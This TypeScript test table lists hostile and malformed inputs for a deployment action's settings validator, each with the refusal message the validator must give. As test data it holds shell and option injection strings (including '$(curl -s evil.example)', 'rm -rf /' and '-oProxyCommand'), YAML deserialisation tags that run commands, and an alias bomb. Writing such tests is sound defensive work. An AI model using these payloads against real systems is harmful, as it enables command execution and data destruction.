/**
 * The bad-input table: hostile or malformed inputs, each applied to an otherwise valid set of inputs, with
 * what the refusal must name. One table, two drivers: test/unit/bad-input.test.ts runs it through
 * readSettings, test/integration/bad-input.test.ts through the bundled action against the real bed hosts
 * (where the base is valid enough to connect, so that only the hostile field can be the reason nothing did).
 */

/** What a valid run needs, from the bed (integration) or generated (unit). */
export interface InputBase {
  /** Addresses of the inventory's three hosts: master, slave-1, slave-2. */
  addresses: readonly [string, string, string];
  /** Unencrypted private key the hosts accept. */
  privateKey: string;
  /** An encrypted private key and its passphrase. */
  encryptedKey: string;
  passphrase: string;
  /** A public key line (`type base64 comment`). */
  publicKey: string;
  /** known_hosts lines for the three addresses. */
  knownHosts: string;
  releasesApiUrl: string;
  image: string;
}

/** Names the base inventory uses, distinctive so that any trace they leave on a bed host is ours. */
export const BASE_NAMES = {
  container: 'nau-bi-app',
  projectDir: '/opt/nau-bi-compose',
  service: 'nau-bi-app',
  sourceDir: '/opt/nau-bi-src',
  backupDir: '/var/backups/nau-bi',
} as const;

/** A value as a YAML double-quoted scalar (JSON strings are valid YAML). */
export const q = (value: string): string => JSON.stringify(value);

type Entry = [key: string, yaml: string][];

function baseEntries(b: InputBase): Entry[] {
  return [
    [
      ['name', 'master'],
      ['host', b.addresses[0]],
      ['role', 'master'],
      ['method', 'docker'],
      ['container', BASE_NAMES.container],
    ],
    [
      ['name', 'slave-1'],
      ['host', b.addresses[1]],
      ['role', 'slave'],
      ['method', 'compose'],
      ['project-dir', BASE_NAMES.projectDir],
      ['service', BASE_NAMES.service],
    ],
    [
      ['name', 'slave-2'],
      ['host', b.addresses[2]],
      ['role', 'slave'],
      ['method', 'source'],
      ['source-dir', BASE_NAMES.sourceDir],
    ],
  ];
}

/** Per host (0 master, 1 slave-1, 2 slave-2): key → raw YAML value, or null to drop the key. */
export type HostEdits = Partial<Record<0 | 1 | 2, Record<string, string | null>>>;

/** The base inventory with `edits` applied (keys replaced in place, new keys appended), as YAML. */
export function inventory(b: InputBase, edits: HostEdits = {}): string {
  return baseEntries(b)
    .map((entry, i) => {
      const edit = edits[i as 0 | 1 | 2] ?? {};
      const lines = entry.filter(([key]) => edit[key] !== null).map(([key, yaml]) => [key, edit[key] ?? yaml]);
      for (const [key, yaml] of Object.entries(edit)) {
        if (yaml !== null && !entry.some(([k]) => k === key)) lines.push([key, yaml]);
      }
      return lines.map(([key, yaml], n) => `${n === 0 ? '- ' : '  '}${key}: ${yaml}`).join('\n');
    })
    .join('\n');
}

/** The valid inputs every case starts from: a three-host cluster, key auth, verified host keys, a dry run. */
export function baseInputs(b: InputBase): Record<string, string> {
  return {
    hosts: inventory(b),
    'ssh-private-key': b.privateKey,
    'ssh-known-hosts': b.knownHosts,
    'releases-api-url': b.releasesApiUrl,
    image: b.image,
    'github-token': 'nau-bi-github-token-0001',
    'backup-dir': BASE_NAMES.backupDir,
    'ssh-timeout': '5',
    'command-timeout': '60',
    'health-timeout': '30',
    'stability-seconds': '0',
    'lock-timeout': '5',
    'comment-on-pr': 'false',
    'dry-run': 'true',
  };
}

export interface BadInputCase {
  title: string;
  /** Inputs changed from the base: a value replaces the base's, null removes it. */
  inputs(b: InputBase): Record<string, string | null>;
  /** Extra environment variables of the step (what `ssh-private-key-env` names). */
  env?: Record<string, string>;
  /** The input the refusal must name. */
  input: string;
  /** The host entry the refusal must name, when the problem is inside one (not checked when absent). */
  host?: string | ((b: InputBase) => string);
  /** What else the message must say: the key, and what is wrong with the value. */
  says: RegExp;
}

export function expectedHost(c: BadInputCase, b: InputBase): string | undefined {
  return typeof c.host === 'function' ? c.host(b) : c.host;
}

/** The full inputs of a case: the base with the case's changes. */
export function caseInputs(c: BadInputCase, b: InputBase): Record<string, string> {
  const inputs: Record<string, string> = { ...baseInputs(b) };
  for (const [name, value] of Object.entries(c.inputs(b))) {
    if (value === null) delete inputs[name];
    else inputs[name] = value;
  }
  return inputs;
}

const edit =
  (edits: HostEdits) =>
  (b: InputBase): Record<string, string> => ({ hosts: inventory(b, edits) });
const raw =
  (hosts: (b: InputBase) => string) =>
  (b: InputBase): Record<string, string> => ({ hosts: hosts(b) });
const set = (inputs: Record<string, string | null>) => (): Record<string, string | null> => inputs;
/** A one-host inventory of the base's master, for cases that write the YAML themselves. */
const oneHost = (b: InputBase): string =>
  `- name: master\n  host: ${b.addresses[0]}\n  container: ${BASE_NAMES.container}`;
/** A host whose name is itself refused is reported under its address. */
const addressOf = (i: 0 | 1 | 2) => (b: InputBase) => b.addresses[i];

const PWN = 'touch /tmp/nau-pwned';

const identifierCases: BadInputCase[] = [
  // name
  {
    title: 'name with ; and a command',
    inputs: edit({ 0: { name: q('master;reboot') } }),
    input: 'hosts',
    host: addressOf(0),
    says: /name "master;reboot" is not a plain identifier/,
  },
  {
    title: 'name with $( )',
    inputs: edit({ 0: { name: q(`$(${PWN})`) } }),
    input: 'hosts',
    host: addressOf(0),
    says: /name "\$\(touch \/tmp\/nau-pwned\)" is not a plain identifier/,
  },
  {
    title: 'name with backticks',
    inputs: edit({ 1: { name: q('`id`') } }),
    input: 'hosts',
    host: addressOf(1),
    says: /name "`id`" is not a plain identifier/,
  },
  {
    title: 'name with a newline forging a workflow command',
    inputs: edit({ 0: { name: q('master\n::error::forged by the inventory') } }),
    input: 'hosts',
    host: addressOf(0),
    says: /name "master\\n::error::forged by the inventory" is not a plain identifier/,
  },
  {
    title: 'name starting with - (option injection)',
    inputs: edit({ 2: { name: q('-oProxyCommand=sh') } }),
    input: 'hosts',
    host: addressOf(2),
    says: /name "-oProxyCommand=sh" is not a plain identifier/,
  },
  // host
  {
    title: 'host with ; and a command',
    inputs: (b) => edit({ 0: { host: q(`${b.addresses[0]};${PWN}`) } })(b),
    input: 'hosts',
    host: 'master',
    says: /host ".*;touch \/tmp\/nau-pwned" is not a host name or IP address/,
  },
  {
    title: 'host that is an ssh option (-oProxyCommand)',
    inputs: edit({ 1: { host: q(`-oProxyCommand=${PWN}`) } }),
    input: 'hosts',
    host: 'slave-1',
    says: /host "-oProxyCommand=touch \/tmp\/nau-pwned" is not a host name or IP address/,
  },
  {
    title: 'host with $( )',
    inputs: edit({ 2: { host: q('$(curl -s evil.example)') } }),
    input: 'hosts',
    host: 'slave-2',
    says: /host "\$\(curl -s evil.example\)" is not a host name or IP address/,
  },
  {
    title: 'host with a NUL byte',
    inputs: (b) => edit({ 0: { host: q(`${b.addresses[0]}\0`) } })(b),
    input: 'hosts',
    host: 'master',
    says: /host ".*\\u0000" is not a host name or IP address/,
  },
  {
    title: 'host with user@ and :port inside',
    inputs: (b) => edit({ 0: { host: q(`root@${b.addresses[0]}:22`) } })(b),
    input: 'hosts',
    host: 'master',
    says: /host "root@.*:22" is not a host name or IP address/,
  },
  // user
  {
    title: 'user with ; and a command',
    inputs: edit({ 0: { user: q(`root;${PWN}`) } }),
    input: 'hosts',
    host: 'master',
    says: /user "root;touch \/tmp\/nau-pwned" is not a valid user name/,
  },
  {
    title: 'user that is an ssh option',
    inputs: edit({ 1: { user: q('-oProxyCommand=id') } }),
    input: 'hosts',
    host: 'slave-1',
    says: /user "-oProxyCommand=id" is not a valid user name/,
  },
  {
    title: 'user with $( ) and quotes',
    inputs: edit({ 2: { user: q(`r'$(whoami)"`) } }),
    input: 'hosts',
    host: 'slave-2',
    says: /user "r'\$\(whoami\)\\"" is not a valid user name/,
  },
  // container
  {
    title: 'container with ; and a docker command',
    inputs: edit({ 0: { container: q('new-api;docker rm -f $(docker ps -aq)') } }),
    input: 'hosts',
    host: 'master',
    says: /container "new-api;docker rm -f \$\(docker ps -aq\)" is not a valid name/,
  },
  {
    title: 'container that is a docker option',
    inputs: edit({ 0: { container: q('--privileged') } }),
    input: 'hosts',
    host: 'master',
    says: /container "--privileged" is not a valid name/,
  },
  {
    title: 'container with backticks',
    inputs: edit({ 0: { container: q('new-api`id`') } }),
    input: 'hosts',
    host: 'master',
    says: /container "new-api`id`" is not a valid name/,
  },
  {
    title: 'container with an ANSI escape',
    inputs: edit({ 0: { container: q('new-api\u001b[2J') } }),
    input: 'hosts',
    host: 'master',
    says: /container "new-api\\u001b\[2J" is not a valid name/,
  },
  // service
  {
    title: 'service with a pipe',
    inputs: edit({ 1: { service: q('new-api|sh') } }),
    input: 'hosts',
    host: 'slave-1',
    says: /service "new-api\|sh" is not a valid name/,
  },
  {
    title: 'service with a newline',
    inputs: edit({ 1: { service: q(`new-api\n${PWN}`) } }),
    input: 'hosts',
    host: 'slave-1',
    says: /service "new-api\\ntouch \/tmp\/nau-pwned" is not a valid name/,
  },
  // project-dir
  {
    title: 'project-dir with ; and rm -rf',
    inputs: edit({ 1: { 'project-dir': q('/opt/new-api;rm -rf /') } }),
    input: 'hosts',
    host: 'slave-1',
    says: /project-dir "\/opt\/new-api;rm -rf \/" is not a plain absolute path/,
  },
  {
    title: 'project-dir with $( )',
    inputs: edit({ 1: { 'project-dir': q('/opt/$(id)') } }),
    input: 'hosts',
    host: 'slave-1',
    says: /project-dir "\/opt\/\$\(id\)" is not a plain absolute path/,
  },
  {
    title: 'project-dir that is relative',
    inputs: edit({ 1: { 'project-dir': 'opt/new-api' } }),
    input: 'hosts',
    host: 'slave-1',
    says: /project-dir "opt\/new-api" is not a plain absolute path/,
  },
  {
    title: 'project-dir escaping with ..',
    inputs: edit({ 1: { 'project-dir': '/opt/new-api/../../etc' } }),
    input: 'hosts',
    host: 'slave-1',
    says: /project-dir "\/opt\/new-api\/\.\.\/\.\.\/etc" contains \. or \.\. segments/,
  },
  {
    title: 'project-dir that is /',
    inputs: edit({ 1: { 'project-dir': '/' } }),
    input: 'hosts',
    host: 'slave-1',
    says: /project-dir is the root directory/,
  },
  // source-dir
  {
    title: 'source-dir with a space',
    inputs: edit({ 2: { 'source-dir': q('/opt/new api') } }),
    input: 'hosts',
    host: 'slave-2',
    says: /source-dir "\/opt\/new api" is not a plain absolute path/,
  },
  {
    title: 'source-dir breaking out of single quotes',
    inputs: edit({ 2: { 'source-dir': q(`/opt/new-api'; ${PWN}; echo '`) } }),
    input: 'hosts',
    host: 'slave-2',
    says: /source-dir "\/opt\/new-api'; touch \/tmp\/nau-pwned; echo '" is not a plain absolute path/,
  },
  {
    title: 'source-dir with a NUL byte',
    inputs: edit({ 2: { 'source-dir': q('/opt/new-api\0/x') } }),
    input: 'hosts',
    host: 'slave-2',
    says: /source-dir "\/opt\/new-api\\u0000\/x" is not a plain absolute path/,
  },
  // jump
  {
    title: 'jump with ; and a command',
    inputs: (b) => edit({ 0: { jump: q(`root@${b.addresses[1]};${PWN}`) } })(b),
    input: 'hosts',
    host: 'master',
    says: /jump ".*;touch \/tmp\/nau-pwned" is not a host name or IP address/,
  },
  {
    title: 'jump with $( ) as its user',
    inputs: (b) => edit({ 0: { jump: q(`$(id)@${b.addresses[1]}:22`) } })(b),
    input: 'hosts',
    host: 'master',
    says: /jump "\$\(id\)" is not a valid user name/,
  },
  {
    title: 'jump that is an ssh option',
    inputs: edit({ 0: { jump: q('-oProxyCommand=id') } }),
    input: 'hosts',
    host: 'master',
    says: /jump "-oProxyCommand=id" is not a host name or IP address/,
  },
  {
    title: 'jump with a command after the port',
    inputs: (b) => edit({ 0: { jump: q(`${b.addresses[1]}:22;id`) } })(b),
    input: 'hosts',
    host: 'master',
    says: /jump "22;id" is not a port number/,
  },
  // other inventory values
  {
    title: 'port with ; and a command',
    inputs: edit({ 0: { port: q('22; id') } }),
    input: 'hosts',
    host: 'master',
    says: /port "22; id" is not a port number/,
  },
  {
    title: 'port out of range',
    inputs: edit({ 0: { port: '70000' } }),
    input: 'hosts',
    host: 'master',
    says: /port 70000 is not a port number/,
  },
  {
    title: 'url that is a file: URL',
    inputs: edit({ 0: { url: 'file:///etc/passwd' } }),
    input: 'hosts',
    host: 'master',
    says: /url "file:\/\/\/etc\/passwd" is not an http\(s\) URL/,
  },
  {
    title: 'url with credentials',
    inputs: edit({ 0: { url: q('http://root:123456@127.0.0.1:3000') } }),
    input: 'hosts',
    host: 'master',
    says: /url contains credentials/,
  },
  {
    title: 'url with a query',
    inputs: edit({ 0: { url: q('http://127.0.0.1:3000/?x=$(id)') } }),
    input: 'hosts',
    host: 'master',
    says: /url ".*" has a query or fragment/,
  },
  {
    title: 'fingerprint with ; and a command',
    inputs: edit({ 0: { fingerprint: q('SHA256:abc;id') } }),
    input: 'hosts',
    host: 'master',
    says: /fingerprint is not a SHA256 fingerprint/,
  },
  {
    title: 'ssh-private-key-env with ; and a command',
    inputs: edit({ 0: { 'ssh-private-key-env': q('NODE_KEY;id') } }),
    input: 'hosts',
    host: 'master',
    says: /ssh-private-key-env is not a valid environment variable name/,
  },
  {
    title: 'role that is not master or slave',
    inputs: edit({ 1: { role: 'primary' } }),
    input: 'hosts',
    host: 'slave-1',
    says: /role "primary" is not one of master, slave/,
  },
  {
    title: 'method that does not exist',
    inputs: edit({ 0: { method: 'kubernetes' } }),
    input: 'hosts',
    host: 'master',
    says: /method "kubernetes" is not one of docker, compose, source/,
  },
  {
    title: 'restart command with a NUL byte',
    inputs: edit({ 2: { restart: q('systemctl restart new-api\0; reboot') } }),
    input: 'hosts',
    host: 'slave-2',
    says: /restart contains a NUL byte/,
  },
  {
    title: 'pre-update that is empty',
    inputs: edit({ 0: { 'pre-update': q('') } }),
    input: 'hosts',
    host: 'master',
    says: /pre-update is empty/,
  },
];

const topLevelIdentifierCases: BadInputCase[] = [
  {
    title: 'version with ; and a command',
    inputs: set({ version: `v0.10.2; ${PWN}` }),
    input: 'version',
    says: /"v0.10.2; touch \/tmp\/nau-pwned" contains shell syntax/,
  },
  {
    title: 'version that is $( )',
    inputs: set({ version: `$(${PWN})` }),
    input: 'version',
    says: /"\$\(touch \/tmp\/nau-pwned\)" contains shell syntax/,
  },
  {
    title: 'version with backticks',
    inputs: set({ version: 'v0.10.2`id`' }),
    input: 'version',
    says: /"v0.10.2`id`" contains shell syntax/,
  },
  {
    title: 'version piped into sh',
    inputs: set({ version: 'v0.10.2 | sh' }),
    input: 'version',
    says: /"v0.10.2 \| sh" is neither latest, previous, a release tag nor a semver range/,
  },
  {
    title: 'version with a newline forging a workflow command',
    inputs: set({ version: 'v0.10.2\n::set-output name=result::updated' }),
    input: 'version',
    says: /"v0.10.2\\n::set-output name=result::updated" contains shell syntax/,
  },
  {
    title: 'version chained with &&',
    inputs: set({ version: 'latest && id' }),
    input: 'version',
    says: /"latest && id" contains shell syntax/,
  },
  {
    title: 'version with a control character',
    inputs: set({ version: 'v0.10.2\u0007' }),
    input: 'version',
    says: /"v0.10.2\\u0007" is neither latest, previous, a release tag nor a semver range/,
  },
  {
    title: 'image with ; and a command',
    inputs: set({ image: `calciumion/new-api;${PWN}` }),
    input: 'image',
    says: /"calciumion\/new-api;touch \/tmp\/nau-pwned" is not an image repository/,
  },
  {
    title: 'image with $( )',
    inputs: set({ image: '$(id)/new-api' }),
    input: 'image',
    says: /"\$\(id\)\/new-api" is not an image repository/,
  },
  {
    title: 'image that is a docker option',
    inputs: set({ image: '--help' }),
    input: 'image',
    says: /"--help" is not an image repository/,
  },
  {
    title: 'image with a tag',
    inputs: set({ image: 'calciumion/new-api:latest' }),
    input: 'image',
    says: /"calciumion\/new-api:latest" carries a tag or digest/,
  },
  {
    title: 'repository with ; and a command',
    inputs: set({ repository: 'QuantumNous/new-api;id' }),
    input: 'repository',
    says: /"QuantumNous\/new-api;id" is not owner\/name/,
  },
  {
    title: 'repository with a path traversal',
    inputs: set({ repository: '../../etc/passwd' }),
    input: 'repository',
    says: /"\.\.\/\.\.\/etc\/passwd" is not owner\/name/,
  },
  {
    title: 'backup-dir with $( )',
    inputs: set({ 'backup-dir': '/var/backups/$(id)' }),
    input: 'backup-dir',
    says: /"\/var\/backups\/\$\(id\)" is not a plain absolute path/,
  },
  {
    title: 'backup-dir with ; and rm -rf',
    inputs: set({ 'backup-dir': '/var/backups;rm -rf /' }),
    input: 'backup-dir',
    says: /"\/var\/backups;rm -rf \/" is not a plain absolute path/,
  },
  {
    title: 'backup-dir that is /',
    inputs: set({ 'backup-dir': '/' }),
    input: 'backup-dir',
    says: /is the root directory/,
  },
  {
    title: 'backup-dir escaping with ..',
    inputs: set({ 'backup-dir': '/var/backups/../../etc' }),
    input: 'backup-dir',
    says: /contains \. or \.\. segments/,
  },
  {
    title: 'backup-dir that is relative',
    inputs: set({ 'backup-dir': 'backups' }),
    input: 'backup-dir',
    says: /"backups" is not a plain absolute path/,
  },
  {
    title: 'environment with ; and a command',
    inputs: set({ environment: 'production;rm -rf /' }),
    input: 'environment',
    says: /"production;rm -rf \/" is not a usable environment name/,
  },
  {
    title: 'log-error-patterns that is not a regular expression',
    inputs: set({ 'log-error-patterns': '\\[FATAL\\]\n[unclosed' }),
    input: 'log-error-patterns',
    says: /pattern 2 "\[unclosed" is not a valid regular expression/,
  },
];

/** Nine levels of nine-fold aliases: 9^7 strings once expanded, a few hundred bytes of YAML. */
const BILLION_LAUGHS = [
  '  a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...'bcdefg'.split('').map((level, i) => `  ${level}: &${level} [${Array(9).fill(`*${'abcdefg'[i]}`).join(',')}]`),
].join('\n');

const yamlCases: BadInputCase[] = [
  {
    title: 'merge key pulling another entry in (<<: *anchor)',
    inputs: raw((b) =>
      [
        `- &base`,
        `  name: master`,
        `  host: ${b.addresses[0]}`,
        `  container: ${BASE_NAMES.container}`,
        `- <<: *base`,
        `  name: slave-1`,
        `  role: slave`,
      ].join('\n'),
    ),
    input: 'hosts',
    host: 'slave-1',
    says: /unknown key "<<"/,
  },
  {
    title: 'billion-laughs alias bomb',
    inputs: raw((b) => `${oneHost(b)}\n${BILLION_LAUGHS}`),
    input: 'hosts',
    says: /alias|resource exhaustion/i,
  },
  {
    title: 'an alias repeating an entry',
    inputs: raw((b) => `- &m\n  ${oneHost(b).slice(2)}\n- *m`),
    input: 'hosts',
    host: 'master',
    says: /two entries are named "master"/,
  },
  {
    title: 'duplicate key in one entry (the second host: wins in lax parsers)',
    inputs: raw((b) => `${oneHost(b)}\n  host: 198.51.100.66`),
    input: 'hosts',
    says: /is not valid YAML: Map keys must be unique/,
  },
  {
    title: 'a mapping instead of a list',
    inputs: raw((b) => `name: master\nhost: ${b.addresses[0]}\ncontainer: ${BASE_NAMES.container}`),
    input: 'hosts',
    says: /is a single mapping, not a list/,
  },
  {
    title: 'a scalar instead of a list',
    inputs: raw((b) => b.addresses[0]),
    input: 'hosts',
    says: /is not a list of hosts/,
  },
  {
    title: '!!python/object tag (a deserialisation attack)',
    inputs: raw(
      (b) => `- name: master\n  host: ${b.addresses[0]}\n  container: !!python/object/apply:os.system ["${PWN}"]`,
    ),
    input: 'hosts',
    says: /container must be text|tag/,
  },
  {
    title: '!!js/function tag',
    inputs: raw(
      (b) => `${oneHost(b)}\n  pre-update: !!js/function "function(){ require('child_process').execSync('${PWN}') }"`,
    ),
    input: 'hosts',
    says: /tag/,
  },
  {
    title: 'multi-document stream',
    inputs: raw(
      (b) => `${oneHost(b)}\n---\n- host: ${b.addresses[1]}\n  role: slave\n  container: ${BASE_NAMES.container}`,
    ),
    input: 'hosts',
    says: /is not valid YAML: .*multiple documents/i,
  },
  {
    title: 'number where a name is expected (a float)',
    inputs: edit({ 0: { container: '1.5' } }),
    input: 'hosts',
    host: 'master',
    says: /container must be text, not 1.5/,
  },
  {
    title: 'number that overflows (1e309) where a user is expected',
    inputs: edit({ 0: { user: '1e309' } }),
    input: 'hosts',
    host: 'master',
    says: /user must be text/,
  },
  {
    title: 'YAML 1.1 boolean on for sudo',
    inputs: edit({ 0: { sudo: 'on' } }),
    input: 'hosts',
    host: 'master',
    says: /sudo "on" is not a boolean/,
  },
  {
    title: 'YAML 1.1 boolean yes for sudo',
    inputs: edit({ 1: { sudo: 'yes' } }),
    input: 'hosts',
    host: 'slave-1',
    says: /sudo "yes" is not a boolean/,
  },
  {
    title: 'a key with no value',
    inputs: edit({ 0: { container: '' } }),
    input: 'hosts',
    host: 'master',
    says: /container has no value/,
  },
  {
    title: 'an entry that is not a mapping',
    inputs: raw((b) => `- ${b.addresses[0]}`),
    input: 'hosts',
    says: /entry #1 is not a mapping/,
  },
  {
    title: 'an empty list',
    inputs: set({ hosts: '[]' }),
    input: 'hosts',
    says: /is an empty list/,
  },
  {
    title: 'literal \\n sequences instead of line breaks',
    inputs: (b) => ({ hosts: `- name: master\\n  host: ${b.addresses[0]}` }),
    input: 'hosts',
    says: /is not valid YAML.*Fix: the value holds literal \\n sequences/,
  },
];

const inventoryRuleCases: BadInputCase[] = [
  {
    title: 'unknown key (a password in the inventory)',
    inputs: edit({ 0: { password: q('inventory-pw-not-printed') } }),
    input: 'hosts',
    host: 'master',
    says: /unknown key "password"/,
  },
  {
    title: 'unknown key that is a typo',
    inputs: edit({ 0: { contianer: 'new-api' } }),
    input: 'hosts',
    host: 'master',
    says: /unknown key "contianer".*did you mean 'container'/,
  },
  {
    title: 'duplicate names',
    inputs: edit({ 1: { name: 'master' } }),
    input: 'hosts',
    host: 'master',
    says: /two entries are named "master"/,
  },
  {
    title: 'two masters',
    inputs: edit({ 1: { role: 'master' } }),
    input: 'hosts',
    says: /2 hosts are masters \(master, slave-1\)/,
  },
  {
    title: 'three masters by default (role omitted everywhere)',
    inputs: edit({ 0: { role: null }, 1: { role: null }, 2: { role: null } }),
    input: 'hosts',
    says: /3 hosts are masters/,
  },
  {
    title: 'the same deployment listed twice',
    inputs: (b) =>
      edit({
        1: {
          host: b.addresses[0],
          method: 'docker',
          'project-dir': null,
          service: null,
          container: BASE_NAMES.container,
        },
      })(b),
    input: 'hosts',
    host: 'slave-1',
    says: /entries "master" and "slave-1" are the same deployment/,
  },
  {
    title: 'compose key on a docker host',
    inputs: edit({ 0: { 'project-dir': '/opt/new-api' } }),
    input: 'hosts',
    host: 'master',
    says: /project-dir belongs to method compose, but this host uses method docker/,
  },
  {
    title: 'compose host without project-dir',
    inputs: edit({ 1: { 'project-dir': null } }),
    input: 'hosts',
    host: 'slave-1',
    says: /project-dir is missing \(method compose needs it\)/,
  },
  {
    title: 'jump-fingerprint without jump',
    inputs: edit({ 0: { 'jump-fingerprint': 'SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8' } }),
    input: 'hosts',
    host: 'master',
    says: /jump-fingerprint is given without jump/,
  },
];

const numberCases: BadInputCase[] = [
  { title: 'ssh-timeout 0', inputs: set({ 'ssh-timeout': '0' }), input: 'ssh-timeout', says: /0 is out of range/ },
  {
    title: 'ssh-timeout negative',
    inputs: set({ 'ssh-timeout': '-5' }),
    input: 'ssh-timeout',
    says: /"-5" is not a whole number/,
  },
  {
    title: 'command-timeout 1e309',
    inputs: set({ 'command-timeout': '1e309' }),
    input: 'command-timeout',
    says: /"1e309" is not a whole number/,
  },
  {
    title: 'health-timeout with a unit',
    inputs: set({ 'health-timeout': '10s' }),
    input: 'health-timeout',
    says: /"10s" is not a whole number.*without a unit/,
  },
  {
    title: 'batch-size huge',
    inputs: set({ 'batch-size': '1000000' }),
    input: 'batch-size',
    says: /1000000 is out of range/,
  },
  { title: 'batch-size 0', inputs: set({ 'batch-size': '0' }), input: 'batch-size', says: /0 is out of range/ },
  {
    title: 'stability-seconds fractional',
    inputs: set({ 'stability-seconds': '3.5' }),
    input: 'stability-seconds',
    says: /"3.5" is not a whole number/,
  },
  {
    title: 'lock-timeout beyond any integer',
    inputs: set({ 'lock-timeout': '99999999999999999999999' }),
    input: 'lock-timeout',
    says: /is out of range/,
  },
  { title: 'backup-keep 0', inputs: set({ 'backup-keep': '0' }), input: 'backup-keep', says: /0 is out of range/ },
  { title: 'max-wait NaN', inputs: set({ 'max-wait': 'NaN' }), input: 'max-wait', says: /"NaN" is not a whole number/ },
  {
    title: 'max-wait hexadecimal',
    inputs: set({ 'max-wait': '0x10' }),
    input: 'max-wait',
    says: /"0x10" is not a whole number/,
  },
  {
    title: 'pr-number with a #',
    inputs: set({ 'pr-number': '#12' }),
    input: 'pr-number',
    says: /"#12" is not a whole number/,
  },
  {
    title: 'admin-user-id that is a name',
    inputs: set({ 'admin-access-token': 'nau-bi-access-token-0001', 'admin-user-id': 'root' }),
    input: 'admin-user-id',
    says: /"root" is not a whole number/,
  },
  {
    title: 'dry-run yes (YAML 1.1)',
    inputs: set({ 'dry-run': 'yes' }),
    input: 'dry-run',
    says: /"yes" is not a boolean.*write true/,
  },
  {
    title: 'backup off (YAML 1.1)',
    inputs: set({ backup: 'off' }),
    input: 'backup',
    says: /"off" is not a boolean.*write false/,
  },
];

const credentialCases: BadInputCase[] = [
  {
    title: 'no key and no password at all',
    inputs: set({ 'ssh-private-key': null }),
    input: 'hosts',
    host: 'master',
    says: /has no way to authenticate/,
  },
  {
    title: 'admin-access-token without admin-user-id',
    inputs: set({ 'admin-access-token': 'nau-bi-access-token-0001' }),
    input: 'admin-access-token',
    says: /is given without admin-user-id/,
  },
  {
    title: 'checks admin-login without admin credentials',
    inputs: set({ checks: 'status,admin-login' }),
    input: 'checks',
    says: /names admin-login, which needs admin credentials/,
  },
  {
    title: 'checks channels without admin credentials',
    inputs: set({ checks: 'channels' }),
    input: 'checks',
    says: /names channels, which needs admin credentials/,
  },
  {
    title: 'checks api-call without api-key',
    inputs: set({ checks: 'status,api-call' }),
    input: 'checks',
    says: /names api-call, which needs api-key/,
  },
  {
    title: 'admin-username without admin-password',
    inputs: set({ 'admin-username': 'root' }),
    input: 'admin-username',
    says: /is given without admin-password/,
  },
  {
    title: 'registry-password without registry-username',
    inputs: set({ 'registry-password': 'nau-bi-registry-pw-not-printed' }),
    input: 'registry-password',
    says: /is given without registry-username/,
  },
  {
    title: 'ssh-private-key-env naming an unset variable',
    inputs: edit({ 0: { 'ssh-private-key-env': 'NAU_BI_UNSET_KEY' } }),
    input: 'hosts',
    host: 'master',
    says: /ssh-private-key-env names the environment variable NAU_BI_UNSET_KEY, which is empty or not set/,
  },
  {
    title: 'no known_hosts and no fingerprint',
    inputs: set({ 'ssh-known-hosts': null }),
    input: 'hosts',
    host: 'master',
    says: /has no host key to verify against/,
  },
  {
    title: 'ssh-private-key that is the public key',
    inputs: (b) => ({ 'ssh-private-key': b.publicKey }),
    input: 'ssh-private-key',
    says: /is not a private key ssh can use|is a public key/,
  },
  {
    title: 'ssh-private-key that is a path',
    inputs: set({ 'ssh-private-key': '~/.ssh/id_ed25519' }),
    input: 'ssh-private-key',
    says: /the key is not a private key ssh can use/,
  },
  {
    title: 'encrypted key without its passphrase',
    inputs: (b) => ({ 'ssh-private-key': b.encryptedKey }),
    input: 'ssh-private-key',
    says: /the key is encrypted/,
  },
  {
    title: 'encrypted key with a wrong passphrase',
    inputs: (b) => ({ 'ssh-private-key': b.encryptedKey, 'ssh-passphrase': 'not-the-passphrase' }),
    input: 'ssh-private-key',
    says: /the key cannot be decrypted with ssh-passphrase/,
  },
  {
    title: 'known_hosts that is not known_hosts',
    inputs: set({ 'ssh-known-hosts': '$(touch /tmp/nau-pwned)' }),
    input: 'ssh-known-hosts',
    says: /line 1 is not a known_hosts line/,
  },
];

const conflictCases: BadInputCase[] = [
  {
    title: 'ssh-passphrase without a key',
    inputs: set({ 'ssh-private-key': null, 'ssh-password': 'nau-bi-ssh-pw-not-printed', 'ssh-passphrase': 'pp' }),
    input: 'ssh-passphrase',
    says: /is given without a private key/,
  },
  {
    title: 'test-channels without admin credentials',
    inputs: set({ 'test-channels': 'true' }),
    input: 'test-channels',
    says: /is true, but the channels check has no admin credentials/,
  },
  {
    title: 'test-channels with checks that leave channels out',
    inputs: set({
      'test-channels': 'true',
      checks: 'status,version',
      'admin-username': 'root',
      'admin-password': 'nau-bi-admin-pw-not-printed',
    }),
    input: 'test-channels',
    says: /is true, but checks does not include channels/,
  },
  {
    title: 'restore-data-on-rollback without backup',
    inputs: set({ 'restore-data-on-rollback': 'true', backup: 'false' }),
    input: 'restore-data-on-rollback',
    says: /needs the backup this run takes, but backup is false/,
  },
  {
    title: 'checks mixing auto with names',
    inputs: set({ checks: 'auto,status' }),
    input: 'checks',
    says: /mixes auto with named checks/,
  },
  {
    title: 'checks naming an unknown check with shell syntax',
    inputs: set({ checks: 'status;reboot' }),
    input: 'checks',
    says: /"status;reboot" is not a check/,
  },
];

const windowCases: BadInputCase[] = [
  {
    title: 'maintenance-window at 25:00',
    inputs: set({ 'maintenance-window': 'Sat,Sun 25:00-06:00' }),
    input: 'maintenance-window',
    says: /25:00 in "Sat,Sun 25:00-06:00" is not a time of day/,
  },
  {
    title: 'maintenance-window with an unknown day',
    inputs: set({ 'maintenance-window': 'Caturday 02:00-04:00' }),
    input: 'maintenance-window',
    says: /"Caturday" in "Caturday 02:00-04:00" is not a day/,
  },
  {
    title: 'maintenance-window with an unknown time zone',
    inputs: set({ 'maintenance-window': '02:00-06:00 Mars/Olympus_Mons' }),
    input: 'maintenance-window',
    says: /"Mars\/Olympus_Mons" is not a time zone/,
  },
  {
    title: 'maintenance-window that is empty',
    inputs: set({ 'maintenance-window': '02:00-02:00 UTC' }),
    input: 'maintenance-window',
    says: /is empty \(starts and ends at the same time\)/,
  },
  {
    title: 'maintenance-window with a command after ;',
    inputs: set({ 'maintenance-window': `02:00-06:00 UTC; $(${PWN})` }),
    input: 'maintenance-window',
    says: /"\$\(touch \/tmp\/nau-pwned\)" is not a window/,
  },
];

const enumCases: BadInputCase[] = [
  {
    title: 'order random',
    inputs: set({ order: 'random' }),
    input: 'order',
    says: /"random" is not one of master-first, slaves-first/,
  },
  {
    title: 'rollback sometimes',
    inputs: set({ rollback: 'sometimes' }),
    input: 'rollback',
    says: /"sometimes" is not one of auto, never/,
  },
  {
    title: 'outside-window ignore',
